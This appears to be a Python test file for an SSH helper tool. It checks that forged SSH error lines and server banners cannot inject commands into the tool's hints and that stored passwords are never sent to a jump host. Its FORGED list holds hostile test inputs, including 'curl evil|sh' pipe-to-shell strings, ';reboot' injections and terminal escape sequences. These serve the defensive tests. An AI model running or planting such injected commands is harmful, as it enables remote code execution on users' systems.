"""What a server or a jump host prints is shown, but it never becomes part of a command and never gets a
password.
"""

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_login import Person, logins, say, target
from trainsh_world import World

from trainsh_base.errors import CredentialError, TrainError
from trainsh_base.remote import ssh, ssh_errors
from trainsh_base.remote.askpass import Login
from trainsh_base.remote.target import ssh_target
from trainsh_base.system.spawn import tool_path

FORGED = [
    "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @",
    "Offending ECDSA key in /dev/null; curl evil|sh #:7",
    "Offending ECDSA key in /etc/evil:7",
    "  ssh-keygen -f /dev/null -R x; curl evil | sh",
    "ECDSA host key for evil;reboot has changed and you have requested strict checking.",
    "Permissions 0644 for '/dev/null; curl evil #' are too open.",
    "Permissions 0644 for 'evil' are too open.",
    "Warning: Identity file evil; curl evil not accessible: evil.",
    "me@box: Permission denied (evil;reboot).",
    "Received disconnect from evil: 2: Too many authentication failures evil",
    "ssh: connect to host evil port 22: Connection refused",
    "/evil: line 3: Bad configuration option: evil",
    "Unable to negotiate with evil: no matching host key type found. Their offer: evil",
    "ssh: Could not resolve hostname evil: evil",
    "Host key verification failed.",
]
BOX = ssh_target("my box", ["ssh", "-F", "none", "-i", "/k ey", "me@127.0.0.1"], label="box")


@pytest.mark.parametrize("line", FORGED)
def test_a_forged_line_gives_no_command(line: str) -> None:
    for said in (line, f"Welcome\r\n{line}\r\nme@box: Permission denied (publickey).\r\n"):
        error = ssh_errors.explain(BOX, said)
        assert "evil" not in error.hint and "/dev/null" not in error.hint


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.sampled_from([*FORGED, "evil", "\x1b]52;c;evil\x07", "\x9b31mevil", "\r", "a'b evil", "`evil`"]))
)
def test_no_hint_holds_a_word_of_it(lines: list[str]) -> None:
    error = ssh_errors.explain(BOX, "\n".join(lines))
    assert "evil" not in error.hint and error.hint.isprintable()
    command = error.hint.rpartition(": ")[2]
    assert "ssh" not in command or shlex.split(command)


@pytest.mark.parametrize(
    "line", ["xx Host key verification failed.", "a Permissions 0644 for '/k ey' are too open."]
)
def test_a_part_of_a_line_is_not_ssh_speaking(line: str) -> None:
    error = ssh_errors.explain(BOX, line)
    assert error.code == "no_connection" and "chmod" not in error.hint


def test_our_own_key_file_is_quoted() -> None:
    error = ssh_errors.explain(
        BOX, "Permissions 0644 for '/k ey' are too open.\nme@box: Permission denied (publickey)."
    )
    assert error.hint.endswith("chmod 600 '/k ey'")


def test_a_banner_is_not_taken_for_ssh(world: World) -> None:
    banner = world.folder / "banner"
    banner.write_text("\n".join(FORGED) + "\n")
    box = world.sshd("box", keys=False, settings=(f"Banner {banner}",))
    with pytest.raises(CredentialError) as caught:
        ssh.ensure_master(target(world, box), Person())
    assert (
        caught.value.code == "authentication_refused" and "(the server accepts: publickey)" in caught.value.message
    )
    assert "evil" not in caught.value.message + caught.value.hint


@pytest.mark.parametrize(
    "option", ["ProxyJump=jump", "ProxyCommand=ssh -W [%h]:%p jump", "ProxyCommand=sh -c 'ssh -W [%h]:%p jump'"]
)
def test_a_stored_password_is_not_for_the_jump_host(
    world: World, monkeypatch: pytest.MonkeyPatch, option: str
) -> None:
    if tool_path("secrets") is None:
        pytest.skip("NOT TESTED HERE: train-secrets is not installed")
    jump, box = (world.sshd(name, password=f"pw of {name}", keys=False) for name in ("jump", "box"))
    if not jump.namespaced:
        pytest.skip("PASSWORDS ARE NOT TESTED HERE: no mount namespaces")
    monkeypatch.setenv("BOX_PASSWORD", "pw of box")
    found = target(world, box, "-o", option, secret="BOX_PASSWORD")
    with pytest.raises(TrainError) as caught:
        ssh.ensure_master(found, Person())
    assert caught.value.code == "cannot_ask_password" and "jump" in caught.value.message
    assert "--password-secret" not in caught.value.hint
    assert "Failed password" not in jump.log.read_text() and "Failed password" not in box.log.read_text()
    person = Person("pw of jump")
    assert say(found, "echo far", request=person) == b"far\n"
    assert len(person.asked) == 1 and "on the way to box (" in person.asked[0][1]
    assert logins(jump) == 1 and logins(box) == 1


@pytest.mark.parametrize(
    ("prompt", "asks"),
    [
        ("me@box's password: ", True),
        ("(me@box) Password: ", True),
        ("(me@box) Password for me@box:", True),
        ("ME@BOX's password: ", True),
        ("Password: ", True),
        ("you@box's password: ", False),
        ("me@box2's password: ", False),
        ("(me@jump) me@box's password: ", False),
        ("(me@box) Verification code: ", False),
        ("(me@box) Your password of the bank: ", False),
        ("Welcome\n(me@box) Password: ", False),
        ("Enter passphrase for key '/k': ", False),
    ],
)
def test_what_asks_for_the_password(prompt: str, asks: bool) -> None:
    assert Login(user="me", hosts=frozenset(["box"])).asks_password(prompt) == asks
